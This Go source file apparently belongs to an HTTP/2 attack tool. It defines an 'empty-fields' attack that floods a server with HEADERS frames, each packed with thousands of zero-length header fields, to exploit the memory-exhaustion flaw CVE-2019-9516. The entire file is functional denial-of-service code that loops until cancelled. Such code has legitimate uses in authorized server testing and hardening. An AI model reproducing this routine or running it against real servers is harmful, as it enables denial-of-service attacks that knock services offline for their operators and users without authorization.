package main

import (
	"bytes"
	"context"

	"golang.org/x/net/http2"
)

// emptyFields sends fields without name and value, which cost memory and no octets.
var emptyFields = &attack{
	name: "empty-fields", what: "header fields of no length, thousands in a block (CVE-2019-9516)",
	run: func(ctx context.Context, e *enemy) error {
		block := append([]byte{0x82, 0x84, 0x87, 0x41, 1, 'h'}, bytes.Repeat([]byte{0, 0, 0}, 5000)...)
		for ctx.Err() == nil {
			if err := e.frame(http2.FrameHeaders, http2.FlagHeadersEndHeaders|http2.FlagHeadersEndStream, e.next, block); err != nil {
				return err
			}
			e.next += 2
		}
		return nil
	},
}
